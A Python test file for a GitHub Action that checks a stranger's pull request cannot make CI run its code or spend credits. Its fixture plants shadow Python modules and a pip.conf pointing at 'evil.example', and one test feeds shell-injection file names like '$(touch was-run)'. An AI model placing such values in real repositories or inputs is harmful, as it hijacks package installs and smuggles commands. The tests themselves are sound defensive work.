"""A pull request in CI: what its files may make the action run, and what the recipes install."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path

import pytest

from support import workflows
from support.filmrepo import Film
from support.places import ROOT
from support.workflows import Machine

ACTION = ROOT / "action.yml"
FILES = (ACTION, *(ROOT / "examples" / "ci").iterdir(), *(ROOT / ".github" / "workflows").iterdir())
SCENES = "kiebatch: 1\ndefaults: {model: z-image}\nscenes:\n  - {id: 1, prompt: A boat}\n"
# Names that Python would import from a folder on its path.
MODULES = (
    "json.py",
    "re.py",
    "site.py",
    "sitecustomize.py",
    "typer.py",
    "yaml.py",
    "kiebatch.py",
    "encodings.py",
)


@pytest.fixture
def machine(tmp_path: Path) -> Machine:
    """A CI machine whose checkout comes from a stranger."""
    film = Film(tmp_path / "film")
    film.manifest_path.unlink()
    film.assets.rmdir()
    (film.root / "scenes.yaml").write_text(SCENES, encoding="utf-8")
    for name in MODULES:
        (film.root / name).write_text(f"open({str(tmp_path / 'was-run')!r}, 'w').close()\n", encoding="utf-8")
    (film.root / "pip.conf").write_text("[global]\nindex-url = http://evil.example/\n", encoding="utf-8")
    film.commit("a pull request")
    film.git("clone", "--quiet", "--bare", ".", str(tmp_path / "origin.git"))
    return Machine(tmp_path / "ci", tmp_path / "origin.git", {}, {})


@pytest.mark.slow
@pytest.mark.parametrize("mode", ["plan", "draft"])
def test_no_module_of_a_pull_request_is_executed(machine: Machine, mode: str, tmp_path: Path) -> None:
    ran = machine.github_action(ACTION, {"mode": mode}, event="pull_request")

    assert {one.name: one.code for one in ran}["kiebatch"] == 0, [one.output for one in ran]
    assert not (tmp_path / "was-run").exists()
    assert machine.last["steps"]["kiebatch"]["outputs"]["status"] in ("work", "success")


@pytest.mark.slow
@pytest.mark.parametrize(
    "scene_file", ["--help", "$(touch was-run)", "a;touch was-run", "`touch was-run`", "a\nb", ""]
)
def test_the_name_of_a_file_is_never_a_command(machine: Machine, scene_file: str, tmp_path: Path) -> None:
    ran = machine.github_action(ACTION, {"mode": "plan", "scene-file": scene_file}, event="pull_request")

    assert not (machine.workspace / "was-run").exists()
    assert "kiebatch" in {one.name for one in ran}


@pytest.mark.parametrize("event", ["pull_request", "pull_request_target", "pull_request_review"])
def test_a_pull_request_never_spends(machine: Machine, event: str) -> None:
    inputs = {"mode": "run", "api-key": "k", "max-credits": "9"}

    ran = {one.name: one.code for one in machine.github_action(ACTION, inputs, event=event)}

    assert ran["kiebatch"] == 2


@pytest.mark.parametrize("file", FILES, ids=lambda file: file.name)
def test_what_a_recipe_uses_is_pinned_and_has_an_owner(file: Path) -> None:
    text = file.read_text(encoding="utf-8")

    uses = re.findall(r"uses:\s*(\S+)", text)
    assert all(re.fullmatch(r"[\w.-]+/[\w./-]+@[0-9a-f]{40}", one) for one in uses), uses
    assert not re.search(r"pip install (-\S+ )*'?kiebatch\b", text)
    assert not re.search(r"python3? -c", text), "python runs in the checkout: -I"


def test_an_auditor_finds_nothing() -> None:
    program = Path(sys.executable).with_name("zizmor")
    if not program.exists():
        pytest.skip("zizmor is not installed")
    done = subprocess.run(
        [program, "--offline", "--persona", "auditor", "--format", "json", *map(str, FILES)],
        cwd=ROOT,
        capture_output=True,
        check=False,
    )

    found = [one for one in json.loads(done.stdout or "[]") if not one.get("ignored")]
    assert [one["ident"] for one in found] == []


def test_the_documents_name_no_package_that_nobody_owns() -> None:
    pages = [*(ROOT / "docs").glob("*.md"), ROOT / "README.md"]
    named = re.compile(r"pip install\s+'?kiebatch\b")

    assert [page.name for page in pages if named.search(page.read_text(encoding="utf-8"))] == []


def test_the_workflow_files_are_still_read_by_the_runner() -> None:
    assert workflows.load(ROOT / "examples" / "ci" / "github.yml")["jobs"].keys() == {"draft", "run"}
